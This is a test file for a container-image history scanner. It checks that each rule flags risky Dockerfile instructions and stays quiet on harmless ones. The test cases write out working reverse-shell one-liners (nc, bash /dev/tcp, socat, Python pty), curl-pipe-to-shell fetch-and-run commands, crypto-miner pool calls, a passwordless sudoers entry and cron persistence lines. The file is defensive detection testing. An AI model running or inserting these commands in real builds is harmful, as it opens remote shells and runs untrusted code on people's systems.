import { describe, expect, it } from 'vitest';
import { buildkitHistory } from '../../../test/support/history.ts';
import { judgeWith, makeLayers, makePackage, makeView, type ViewParts } from '../../../test/support/view.ts';
import { isFinding } from '../../model/check.ts';
import type { Finding } from '../../model/finding.ts';
import type { HistoryEntry } from '../../model/image.ts';
import type { Problem } from '../../model/problem.ts';
import type { LayerChanges, ViewFile } from '../../model/view.ts';
import { history } from './index.ts';

const now = '2026-06-01T00:00:00Z';

function viewOf(entries: readonly HistoryEntry[], more: ViewParts = {}): ViewParts {
  const layers = makeLayers(
    ...entries.filter(({ layerIndex }) => layerIndex !== undefined).map(({ instruction }) => instruction),
  );
  return { ...more, image: { history: entries, layers } };
}

async function told(view: ViewParts): Promise<{ findings: readonly Finding[]; problems: readonly Problem[] }> {
  const said = await judgeWith(history, makeView(view), now);
  const problems = said.filter((item): item is Problem => !isFinding(item));
  expect(problems.filter(({ code }) => code !== 'check.undecided')).toEqual([]);
  return { findings: said.filter(isFinding), problems };
}

async function idsOf(file: string, more: ViewParts = {}): Promise<readonly string[]> {
  return (await told(viewOf(buildkitHistory(file), more))).findings.map(({ id }) => id);
}

/** By rule: build files of which it speaks, and such of which it must not, besides the example of its documentation. */
const cases: Readonly<Record<string, { readonly fires?: readonly string[]; readonly quiet?: readonly string[] }>> = {
  miner: {
    fires: [
      'CMD ["xmrig","-o","stratum+tcp://pool.supportxmr.com:3333"]',
      'RUN wget https://example.org/xmrig.tar.gz',
      'RUN ./x -o stratum+tcp://pool.example:3333',
      'RUN curl -O https://pool.supportxmr.com/x',
      'RUN sh -c "git clone https://example.org/ethminer"',
    ],
    quiet: ['RUN echo xmrig is bad > /NOTES', 'RUN apt-get install -y determined'],
  },
  'reverse-shell': {
    fires: [
      'RUN mkfifo f; cat f | sh -i 2>&1 | nc 192.0.2.1 4 > f',
      'CMD ["/bin/bash","-c","bash -i >& /dev/tcp/192.0.2.1/1 0>&1"]',
      'RUN nc -e /bin/sh 192.0.2.1 4444',
      'RUN echo "bash -i >& /dev/tcp/192.0.2.1/1 0>&1" >> /root/.bashrc',
      'RUN sh -i 5<> /dev/tcp/192.0.2.1/1',
      'RUN socat TCP:192.0.2.1:1 EXEC:sh',
      `RUN python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("192.0.2.1",1));os.dup2(s.fileno(),0);pty.spawn("sh")'`,
    ],
    quiet: [
      'RUN sh x.sh | nc -z localhost 80',
      'RUN echo "/dev/tcp is a file of bash"',
      'RUN nc -z localhost 80',
      'RUN curl https://example.org/dev/tcp/',
    ],
  },
  'decoded-and-run': {
    fires: [
      'RUN eval "$(echo aGk= | base64 --decode)"',
      'RUN bash -c "$(base64 -d x)"',
      'RUN echo x | openssl base64 -d | sh',
    ],
    quiet: ['RUN echo aGk= | base64 -d > /etc/x', 'RUN base64 -d x | tar -x', 'RUN echo "base64 -d | sh"'],
  },
  'hidden-place': {
    fires: ['RUN mkdir -p /tmp/.X11-unix/...', 'RUN cp x /dev/shm/x', 'RUN mkdir /var/tmp/.ssh/x'],
    quiet: ['RUN mkdir -p /tmp/build', 'RUN cp ../x .', 'RUN mkdir /tmp/.X11-unix'],
  },
  'schedule-by-run': {
    fires: ['RUN echo "* * * * * root /x" > /etc/cron.d/x', 'RUN crontab /x.cron'],
    quiet: ['RUN crontab -l', 'RUN echo crontab'],
  },
  'download-executed': {
    fires: [
      'RUN { curl https://example.org/x; } | sh',
      'RUN X=$(curl https://example.org/x); eval "$X"',
      'RUN X=$(curl https://example.org/x); echo "$X" | sh',
      'RUN bash < <(curl https://example.org/x)',
      'RUN sha256sum -c /dev/null; curl https://example.org/x | sh',
      'RUN curl https://example.org/x | bash -e',
      'CMD ["/bin/sh","-c","curl https://example.org/x | sh"]',
      'RUN wget -qO- https://example.org/x | bash',
      'RUN sh -c "$(curl -fsSL https://example.org/x)"',
      'RUN bash <(curl -s https://example.org/x)',
      'RUN curl https://example.org/x | sudo -E bash -',
      'RUN curl -o x.sh https://example.org/x && chmod +x x.sh && ./x.sh',
      'RUN curl https://example.org/x > /tmp/x.sh; sh /tmp/x.sh',
      'RUN eval "$(wget -O - https://example.org/x)"',
      'RUN curl https://example.org/get-pip.py | python3',
      'RUN wget https://example.org/install.sh && bash install.sh --yes',
      'RUN sh -c "curl https://example.org/x | sh"',
      'RUN env A=1 curl https://example.org/x | env B=2 sh',
      'ONBUILD RUN curl https://example.org/x | sh',
    ],
    quiet: [
      'RUN X=$(curl https://example.org/x); echo "$X"',
      'RUN echo "curl https://example.org | sh"',
      'RUN curl https://example.org/x | tar -xz',
      'RUN curl https://example.org/x | python3 -c "import json"',
      'RUN curl -o x.sh https://example.org/x && echo "00  x.sh" | sha256sum -c && sh x.sh',
      'RUN curl -o k https://example.org/k && curl -o x.sh https://example.org/x && gpg --verify k x.sh && sh x.sh',
      'RUN sh ./own.sh && curl https://example.org/',
    ],
  },
  'download-unverified': {
    fires: [
      'RUN curl -fsSL https://example.org/a.tar.gz | tar -xz',
      'RUN curl -LO https://example.org/a.zip && unzip a.zip',
    ],
    quiet: [
      'RUN curl -f https://example.org/health',
      'RUN wget -q https://example.org/a.zip && echo "0 a.zip" | sha512sum --check',
    ],
  },
  'package-from-address': {
    fires: [
      'RUN npm install https://example.org/x.tgz',
      'RUN dnf install -y https://example.org/x.rpm',
      'RUN pip3 install git+https://example.org/x',
    ],
    quiet: [
      'RUN pip install -i https://mirror.example/simple flask==1.0',
      'RUN pip install --extra-index-url https://mirror.example flask==1.0',
      `RUN pip install git+https://example.org/x@${'a'.repeat(40)}`,
      'RUN npm config set registry https://mirror.example',
    ],
  },
  'add-unverified': {
    fires: ['ADD http://example.org/a /'],
    quiet: ['ADD a.tar.gz /', `ADD https://example.org/a.git#${'a'.repeat(40)} /`],
  },
  'verification-disabled': {
    fires: [
      'RUN wget --no-check-certificate https://example.org',
      'RUN git config --global http.sslVerify false',
      'RUN git -c http.sslVerify=false clone https://example.org/x',
      'RUN npm config set strict-ssl false',
      'RUN NODE_TLS_REJECT_UNAUTHORIZED=0 npm ci',
      'RUN export GIT_SSL_NO_VERIFY=1 && git clone https://example.org/x',
      'RUN pip install --trusted-host example.org x==1',
      'RUN apt-get install -y --allow-unauthenticated x',
      'RUN yum install -y --nogpgcheck x',
      'RUN apk add --allow-untrusted x.apk',
      'RUN curl -fsSLk https://example.org/',
      'RUN ssh -o StrictHostKeyChecking=no example.org',
      'RUN apt-get -o Acquire::https::Verify-Peer=false update',
    ],
    quiet: [
      'RUN curl -fsSL https://example.org/k',
      'RUN echo --insecure',
      'RUN git config http.sslVerify true',
      'RUN tar -k -xf x',
    ],
  },
  'verification-disabled-by-file': {
    fires: ['RUN printf "[x]\\ngpgcheck=0\\n" > /etc/yum.repos.d/x.repo', 'RUN echo "strict-ssl=false" >> ~/.npmrc'],
    quiet: ['RUN printf "[x]\\ngpgcheck=1\\n" > /etc/yum.repos.d/x.repo'],
  },
  'chmod-everybody': {
    fires: [
      'RUN chmod 777 /srv',
      'RUN chmod a+w /etc/x',
      'RUN chmod -R o+rwx /srv',
      'RUN chmod 0666 x',
      'RUN chmod +w,o=rw x',
    ],
    quiet: [
      'RUN chmod 3777 /var/run/postgresql',
      'RUN chmod 755 /srv',
      'RUN chmod 1777 /tmp',
      'RUN chmod u+w x',
      'RUN chmod +x x',
      'RUN chmod g+w x',
      'RUN chmod 770 x',
      'RUN chmod go-w x',
    ],
  },
  'chmod-set-id': {
    fires: [
      'RUN chmod 4755 /x',
      'RUN chmod +s /x',
      'RUN setcap cap_net_raw+ep /bin/ping',
      'RUN install -m 4755 a /usr/bin/a',
    ],
    quiet: ['RUN chmod 755 /x', 'RUN chmod u+x /x', 'RUN chmod 0755 x', 'RUN setcap -r /bin/ping'],
  },
  'chown-system-directory': {
    fires: ['RUN chown -R 1000:1000 /etc', 'RUN chown app /etc/passwd', 'RUN chown -R app /'],
    quiet: [
      'RUN chown -R app /srv/app',
      'RUN chown -R root:root /usr',
      'RUN chown -R app /var/lib/app',
      'RUN chown app /opt',
    ],
  },
  'user-in-privileged-group': {
    fires: [
      'RUN adduser app sudo',
      'RUN useradd -m -G users,docker app',
      'RUN gpasswd -a app wheel',
      'RUN addgroup app docker',
    ],
    quiet: ['RUN usermod -aG www-data app', 'RUN adduser app', 'RUN groupadd docker-x', 'RUN useradd -g app app'],
  },
  'sudo-without-password': {
    fires: ['RUN echo "%sudo ALL=(ALL) NOPASSWD: ALL" > /etc/sudoers.d/x'],
    quiet: ['RUN echo "no password"'],
  },
  'password-in-instruction': {
    fires: [
      'RUN useradd -p abc app',
      'RUN printf "a:b\\n" | chpasswd',
      'RUN echo hunter2 | passwd --stdin root',
      'RUN chpasswd <<< root:abc',
    ],
    quiet: [
      'RUN echo "root:$PASSWORD" | chpasswd',
      'RUN passwd -l root',
      'RUN useradd -p "*" app',
      'RUN passwd -d app',
      'RUN echo "root:*" | chpasswd -e',
    ],
  },
  'secret-by-argument': {
    fires: ['ENV DB_PASSWORD=abc', 'ARG API_KEY=x', 'ENV AWS_SECRET_ACCESS_KEY=x'],
    quiet: [
      'ENV PASSWORD_FILE=/run/secrets/x',
      'ARG NPM_TOKEN',
      'ENV KEYBOARD=us MONKEY=1',
      'ENV TOKEN_URL=https://example.org',
    ],
  },
  'package-index-alone': {
    fires: ['RUN apt-get update && rm -rf /var/lib/apt/lists/*', 'RUN apk update'],
    quiet: [
      'RUN apt-get update && apt-get upgrade -y',
      'RUN apk update && apk add curl',
      'RUN yum update -y',
      'RUN echo apt-get update',
      'RUN apt-get update && apt-get build-dep -y x',
    ],
  },
  'apt-unattended': {
    fires: ['RUN apt-get install curl', 'RUN sudo apt-get upgrade'],
    quiet: [
      'RUN apt-get -y install curl',
      'RUN apt-get install -qqy curl',
      'RUN apt-get install --yes curl',
      'RUN yes | apt-get install curl',
      'RUN apt-get -o APT::Get::Assume-Yes=true install x',
      'RUN apt-get update',
    ],
  },
  'rpm-unattended': {
    fires: ['RUN yum install curl'],
    quiet: ['RUN yum -y install curl', 'RUN microdnf install -y x', 'RUN dnf list'],
  },
  'zypper-unattended': { quiet: ['RUN zypper --non-interactive install x', 'RUN zypper install -y x'] },
  'apt-recommends': {
    quiet: [
      'RUN apt-get install -y --no-install-recommends curl',
      'RUN apt-get -o APT::Install-Recommends=false install -y curl',
      `RUN echo 'APT::Install-Recommends "0";' > /etc/apt/apt.conf.d/x && apt-get install -y curl`,
      'RUN apt-get purge -y curl',
    ],
  },
  'apt-unpinned': {
    fires: ['RUN apt-get install -y curl=1 vim', 'RUN apt-get install -y -t stable curl'],
    quiet: [
      'RUN apt-get install -y curl=1.* vim=2',
      'RUN apt-get install -y ./x.deb $PACKAGES',
      'RUN apt-get remove curl',
      'RUN apt-get install -y -t stable',
    ],
  },
  'apk-unpinned': {
    fires: ['RUN apk add -t .deps gcc'],
    quiet: ['RUN apk add "curl>8" vim=1-r0 gcc~13', 'RUN apk add -t .deps gcc=1', 'RUN apk del gcc'],
  },
  'rpm-unpinned': {
    fires: ['RUN yum install -y httpd'],
    quiet: [
      'RUN yum install -y httpd-2.4.6',
      'RUN dnf install -y https://example.org/x.rpm',
      'RUN dnf install -y "@development"',
    ],
  },
  'zypper-unpinned': { quiet: ['RUN zypper -n install "curl>=8"'] },
  'distribution-upgrade': {
    fires: ['RUN zypper dup', 'RUN apt full-upgrade'],
    quiet: ['RUN apt-get upgrade -y', 'RUN apt-get install dist-upgrade-tool'],
  },
  'apt-lists-kept': {
    fires: [
      'RUN apt-get update && apt-get install -y curl',
      'RUN apt-get update && apt-get install -y x\nRUN rm -rf /var/lib/apt/lists/*',
    ],
    quiet: [
      'RUN apt-get update && apt-get install -y x && rm -rf /var/lib/apt/lists/*',
      'RUN --mount=type=cache,target=/var/lib/apt/lists apt-get update && apt-get install -y x',
      'RUN apt-get update && apt-get install x && apt-get dist-clean',
    ],
  },
  'apk-cache-kept': {
    quiet: ['RUN apk --no-cache add curl', 'RUN apk update && apk add x && rm -rf /var/cache/apk/*', 'RUN apk del x'],
  },
  'yum-cache-kept': { quiet: ['RUN yum install -y x && rm -rf /var/cache/yum', 'RUN dnf install -y x'] },
  'dnf-cache-kept': {
    fires: ['RUN microdnf install -y x'],
    quiet: ['RUN microdnf install -y x && microdnf clean all'],
  },
  'zypper-cache-kept': { quiet: ['RUN zypper -n in x && zypper cc'] },
  'apt-for-scripts': { quiet: ['RUN apt-get install -y x', 'RUN apt-mark hold x', 'RUN apt-cache policy'] },
  'pip-unpinned': {
    fires: ['RUN python3 -m pip install flask', 'RUN pip install --upgrade pip', 'RUN pip3 install flask requests==1'],
    quiet: [
      'RUN pip install flask==1.0',
      'RUN pip install -r r.txt',
      'RUN pip install .',
      'RUN pip install "flask>=1"',
      'RUN pip install $X',
      'RUN pip download flask',
    ],
  },
  'pip-cache-kept': {
    quiet: [
      'RUN PIP_NO_CACHE_DIR=1 pip install x==1',
      'RUN pip install x==1 && rm -rf /root/.cache',
      'RUN --mount=type=cache,target=/root/.cache/pip pip install x==1',
      'RUN pip install x==1 && pip cache purge',
    ],
  },
  'npm-unpinned': {
    fires: ['RUN npm i -g express@latest', 'RUN yarn global add typescript', 'RUN npm install @scope/x'],
    quiet: [
      'RUN npm install',
      'RUN npm ci',
      'RUN npm i express@1.0.0 @scope/x@2',
      'RUN npm install ./x.tgz',
      'RUN npm install user/repo',
      'RUN yarn',
    ],
  },
  'gem-unpinned': { quiet: ['RUN gem install x -v 1.0', 'RUN gem install x.gem', 'RUN gem list'] },
  'go-unpinned': {
    fires: ['RUN go get example.org/x'],
    quiet: ['RUN go install ./...', 'RUN go install example.org/x@v1.0.0', 'RUN go build'],
  },
  'yarn-cache-kept': { fires: ['RUN yarn'], quiet: ['RUN yarn build', 'RUN yarn && yarn cache clean'] },
  'add-instead-of-copy': {
    fires: ['COPY a /\nADD b /srv'],
    quiet: ['ADD file:0123456789abcdef0123 /', 'ADD x.tar.xz /srv', 'ADD https://example.org/x /'],
  },
  'copy-without-slash': { quiet: ['COPY a b /srv/', 'COPY a /srv', 'COPY a b .'] },
  'copy-then-unpack': { quiet: ['COPY a.tar.gz /tmp/\nRUN echo tar a.tar.gz', 'RUN tar -xzf /b.tar.gz'] },
  'copy-whole-stage': { quiet: ['COPY --from=build /out /', 'COPY . /'] },
  'copy-sensitive-file': {
    fires: ['COPY id_rsa /root/.ssh/', 'ADD conf/server.key /etc/', 'COPY .env .'],
    quiet: ['COPY id_rsa.pub /root/', 'COPY package.json ./', 'COPY key.go .'],
  },
  'sudo-in-run': {
    fires: ['RUN sh -c "sudo ls"', 'RUN cd / && sudo make'],
    quiet: ['RUN apt-get install -y sudo', 'RUN echo sudo'],
  },
  'cd-in-run': { quiet: ['RUN (cd /srv && make)', 'RUN make && cd /', 'RUN cd /a && x && cd /b && y'] },
  'wget-and-curl': {
    fires: ['RUN wget -q https://a.example/x && curl -O https://b.example/'],
    quiet: ['RUN apt-get install -y wget curl', 'RUN curl https://a.example'],
  },
  'wget-progress': {
    quiet: [
      'RUN wget -q https://a.example',
      'RUN wget -nv https://a.example',
      'RUN wget --progress=dot:giga https://a.example',
      'RUN wget -qO- https://a.example',
    ],
  },
  'pipe-without-pipefail': {
    fires: ['RUN a | b'],
    quiet: [
      'RUN set -o pipefail && a | b',
      'RUN echo x | b',
      'RUN a || b',
      'SHELL ["/bin/bash","-eo","pipefail","-c"]\nRUN a | b',
      'RUN echo "a | b"',
    ],
  },
  'shell-by-link': { quiet: ['RUN ln -s /bin/bash /usr/local/bin/sh', 'RUN ln -s /a /b'] },
  'pointless-command': {
    fires: ['RUN top', 'RUN vim x', 'RUN mount /dev/x /y'],
    quiet: ['RUN apt-get install -y vim', 'RUN service mysql start && mysql -e x'],
  },
  'consecutive-runs': { quiet: ['RUN a\nCOPY x /\nRUN b', 'RUN a'] },
  'useradd-large-id': { quiet: ['RUN useradd -l -u 123456789 app', 'RUN useradd -u 1000 app'] },
  'removed-in-later-run': { quiet: ['RUN apt-get install -y gcc && apt-get purge -y gcc', 'RUN apt-get purge -y gcc'] },
};

/** Rules that look at files, times or packages: tests of their own below. */
const others = new Set([
  'history-blind',
  'history-contradicts',
  'history-future',
  'layer-of-metadata-changes-files',
  'layer-larger-than-instruction',
  'sensitive-file-unexplained',
  'install-without-packages',
  'package-database-unexplained',
  'build-tools-left',
  'files-copied-by-chmod',
  'package-files-left',
]);

const byId = new Map(history.rules.map((rule) => [rule.id, rule]));

describe('rules about instructions', () => {
  it('all have cases', () => {
    expect([...Object.keys(cases), ...others].sort()).toEqual([...byId.keys()].sort());
  });

  it.each(Object.keys(cases))('%s says what its documentation says', async (id) => {
    const example = byId.get(id)?.example;
    expect(example).toBeDefined();
    expect(await idsOf(example?.wrong ?? '')).toContain(id);
    expect(await idsOf(example?.right ?? '')).not.toContain(id);
  });

  it.each(Object.entries(cases))(
    '%s speaks where it should, and nowhere else',
    async (id, { fires = [], quiet = [] }) => {
      for (const file of fires) expect(await idsOf(file), file).toContain(id);
      for (const file of quiet) expect(await idsOf(file), file).not.toContain(id);
    },
  );
});

const change = (layer: number, more: Partial<LayerChanges> = {}): LayerChanges => ({
  layer,
  added: 0,
  changed: 0,
  removed: 0,
  bytes: 0,
  hidden: 0,
  again: { files: 0, bytes: 0 },
  ...more,
});

const file = (path: string, layer: number, mode = 0o644): ViewFile => {
  const name = path.slice(path.lastIndexOf('/') + 1);
  return { path, layer, header: { path, name, type: 'file', size: 10, mode, uid: 0, gid: 0, offset: 0 } };
};

const each =
  (...files: readonly ViewFile[]): NonNullable<ViewParts['each']> =>
  (visit) => {
    for (const { path, layer, header } of files) {
      const { type, size, mode, uid, gid } = header;
      visit({
        layer,
        type,
        size,
        mode,
        uid,
        gid,
        path: () => path,
        capabilities: () => undefined,
        bringer: () => undefined,
      });
    }
  };

describe('rules about more than instructions', () => {
  it('say that a history is blind, and that then nothing about instructions is decided', async () => {
    const imported: HistoryEntry = {
      index: 0,
      instruction: '',
      createdBy: '',
      comment: 'Imported from -',
      layerIndex: 0,
    };
    const { findings, problems } = await told(viewOf([imported]));
    expect(findings.map(({ id }) => id)).toContain('history-blind');
    expect(problems.map(({ message }) => message).join()).toContain('download-executed');
    expect(problems.map(({ message }) => message).join()).toContain('does not record the instructions');
    const ids = await idsOf('RUN true');
    expect(ids).not.toContain('history-blind');
  });

  it('say what shells they do not read', async () => {
    const { problems } = await told(viewOf(buildkitHistory('SHELL ["powershell", "-Command"]\nRUN Get-Item x')));
    expect(problems.map(({ message }) => message).join()).toContain('instruction 1 is for a shell that is not read');
  });

  it('tell times that are to come', async () => {
    const late = await told(viewOf(buildkitHistory('RUN true', '2027-01-01T00:00:00Z')));
    expect(late.findings.map(({ id }) => id)).toContain('history-future');
    const past = await told(viewOf(buildkitHistory('RUN true', '2026-01-01T00:00:00Z')));
    expect(past.findings.map(({ id }) => id)).not.toContain('history-future');
  });

  it('tell metadata that has a layer with files', async () => {
    const [entry] = buildkitHistory('CMD ["x"]') as [HistoryEntry];
    const layered = [{ ...entry, layerIndex: 0 }];
    const full = await told(viewOf(layered, { changes: () => [change(0, { added: 3 })] }));
    expect(full.findings.map(({ id }) => id)).toContain('layer-of-metadata-changes-files');
    const empty = await told(viewOf(layered, { changes: () => [change(0)] }));
    expect(empty.findings.map(({ id }) => id)).not.toContain('layer-of-metadata-changes-files');
  });

  it('tell a layer that is too large for its instruction', async () => {
    expect(await idsOf('COPY app.json /srv/', { changes: () => [change(0, { added: 5000 })] })).toContain(
      'layer-larger-than-instruction',
    );
    expect(await idsOf('COPY app /srv/', { changes: () => [change(0, { added: 5000 })] })).not.toContain(
      'layer-larger-than-instruction',
    );
    expect(await idsOf('WORKDIR /srv', { changes: () => [change(0, { added: 1 })] })).toContain(
      'layer-larger-than-instruction',
    );
  });

  it('tell files that give rights and that no instruction speaks of', async () => {
    const setuid = each(file('srv/app', 0), file('usr/bin/x', 0, 0o4755));
    expect(await idsOf('COPY app /srv/', { each: setuid })).toContain('sensitive-file-unexplained');
    expect(await idsOf('COPY x /usr/bin/', { each: setuid })).not.toContain('sensitive-file-unexplained');
    expect(await idsOf('RUN true', { each: setuid })).not.toContain('sensitive-file-unexplained');
  });

  it('tell compilers that are left, unless a package owns them', async () => {
    expect(await idsOf('RUN true', { packages: [makePackage('gcc', '12')] })).toContain('build-tools-left');
    expect(await idsOf('RUN true', { packages: [makePackage('zlib1g', '1')] })).not.toContain('build-tools-left');
  });

  it('tell copies that chmod made', async () => {
    const again = { files: 2, bytes: 5_000_000 };
    expect(await idsOf('RUN chmod -R 755 /srv', { changes: () => [change(0, { again })] })).toContain(
      'files-copied-by-chmod',
    );
    expect(await idsOf('RUN chmod 755 /srv', { changes: () => [change(0)] })).not.toContain('files-copied-by-chmod');
  });

  it('tell packages that are left', async () => {
    const list = (directory: string) =>
      directory === 'var/cache/apt/archives' ? [file('var/cache/apt/archives/x.deb', 0)] : [];
    expect(await idsOf('RUN true', { list })).toContain('package-files-left');
    expect(await idsOf('RUN true')).not.toContain('package-files-left');
  });

  it('tell the index of apt by the files of the layer', async () => {
    const run = 'RUN apt-get update && apt-get install -y curl';
    const changes = () => [change(0, { added: 10 })];
    const list = (directory: string) =>
      directory === 'var/lib/apt/lists' ? [file('var/lib/apt/lists/x_Packages', 0)] : [];
    expect(await idsOf(run, { changes, list })).toContain('apt-lists-kept');
    // Official images remove it by a hook of apt.
    expect(await idsOf(run, { changes })).not.toContain('apt-lists-kept');
  });

  it('tell a history that contradicts the layers', async () => {
    const message = 'the history tells of 3 layers, the manifest of 1';
    const { findings } = await told({ problems: [{ code: 'image.history-mismatch', message }] });
    expect(findings.map(({ id }) => id)).toContain('history-contradicts');
    expect(await idsOf('RUN a\nRUN b')).not.toContain('history-contradicts');
  });

  it('read hostile texts once: none makes them go back over all of it again and again', async () => {
    const long = 200_000;
    const odd = [
      `RUN echo ${'a-'.repeat(long / 2)}`,
      `RUN crontab x; echo '${'curl '.repeat(long / 5)}'`,
      `RUN echo '${'['.repeat(long)}'`,
      `RUN printf '${'\\n'.repeat(long / 2)}'`,
      `RUN chmod ${'o'.repeat(long)} x`,
      `RUN echo '${'\n'.repeat(long)}x' > /etc/sudoers`,
      `RUN curl -O 'http://${'a'.repeat(long)}?\nx'`,
      `RUN ${'a;'.repeat(long / 2)}`,
      `RUN ${'a|'.repeat(long / 2)}a`,
      `RUN ${'curl http://a|sh;'.repeat(long / 17)}`,
      `RUN ${'pip install x;'.repeat(long / 14)}pip cache purge`,
      `VOLUME ${'/'.repeat(long)}x`,
    ];
    const entries = odd.map(
      (createdBy, index): HistoryEntry => ({ index, createdBy, instruction: '', layerIndex: index }),
    );
    const { problems } = await told(viewOf(entries));
    expect(problems.map(({ message }) => message).join()).toContain('was read in part');
  });

  it('never fail', async () => {
    const odd = [
      'RUN',
      'RUN "',
      'COPY',
      'ADD',
      'ENV =',
      'ARG',
      'RUN |9 A=',
      '\u0000',
      'RUN $(',
      'RUN `',
      'VOLUME [',
      'RUN <<EOF',
      'ONBUILD',
      'ONBUILD ONBUILD RUN x',
    ];
    const entries = odd.map(
      (createdBy, index): HistoryEntry => ({ index, createdBy, instruction: createdBy, layerIndex: index }),
    );
    await told(viewOf(entries));
  });
});
